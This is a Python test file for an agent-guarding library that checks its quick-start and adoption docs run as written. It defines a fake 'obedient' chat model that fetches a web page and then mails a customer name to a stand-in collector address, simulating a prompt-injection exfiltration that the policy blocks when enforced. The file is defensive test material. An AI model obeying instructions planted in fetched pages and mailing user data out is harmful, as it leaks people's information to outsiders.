"""Quick start and adopting, run as they stand: every command, in order, with every output."""

from __future__ import annotations

import re
import shutil
from pathlib import Path

from agentguard import Policy
from tests.docs.pages import ROOT, blocks, commands, files, normal, run

ADOPTING = (ROOT / "docs" / "adopting.md").read_text()
QUICK_START = (ROOT / "docs" / "quick-start.md").read_text()

# The reader's own model: this one obeys every order it reads, and needs no key.
MODEL = """
from langchain_core.language_models.chat_models import BaseChatModel
from langchain_core.messages import AIMessage, ToolMessage
from langchain_core.outputs import ChatGeneration, ChatResult

STEPS = [
    ("fetch_page", {"url": "https://shop.example/hours"}),
    ("send_mail", {"to": "list@collector.example", "subject": "list", "body": "Anna"}),
]


class Obedient(BaseChatModel):
    @property
    def _llm_type(self):
        return "obedient"

    def bind_tools(self, tools, **kwargs):
        return self

    def _generate(self, messages, *args, **kwargs):
        done = sum(isinstance(message, ToolMessage) for message in messages)
        calls = [{"name": name, "args": args, "id": str(done)} for name, args in STEPS[done : done + 1]]
        answer = AIMessage("" if calls else "Done.", tool_calls=calls)
        return ChatResult(generations=[ChatGeneration(message=answer)])


MODEL = Obedient()
"""


def _follow(page: str, project: Path, bin_folder: Path) -> None:
    for block in blocks(page):
        for command, expected in block:
            assert normal(run(command, project, bin_folder)) == normal(expected), command


def test_the_quick_start_is_what_happens(tmp_path: Path) -> None:
    """The mail that the page's author orders goes out in shadow mode, and does not once the policy is enforced."""
    project = tmp_path / "project"
    project.mkdir()
    (project / "model.py").write_text(MODEL)
    for name, content in files(QUICK_START).items():
        (project / name).write_text(content)

    _follow(QUICK_START, project, commands(tmp_path / "bin"))


def test_the_quick_starts_rows_load() -> None:
    (rows,) = re.findall(r"```yaml\n(.*?)```", QUICK_START, re.DOTALL)

    policy = Policy.parse("version: 1\ntools:\n" + rows)

    assert policy.tools["send_mail"].args["to"].sources == ("user", "find_customer")


def test_adopting_is_what_happens(tmp_path: Path) -> None:
    project = tmp_path / "project"
    shutil.copytree(ROOT / "examples" / "adopting", project, ignore=shutil.ignore_patterns("__pycache__"))

    _follow(ADOPTING, project, commands(tmp_path / "bin"))


def test_adopting_shows_each_verb() -> None:
    verbs = {"init", "check", "lint-labels", "suggest", "replay", "test", "explain"}

    shown = {command.split()[2] for block in blocks(ADOPTING) for command, _ in block if "policy " in command}

    assert shown == verbs
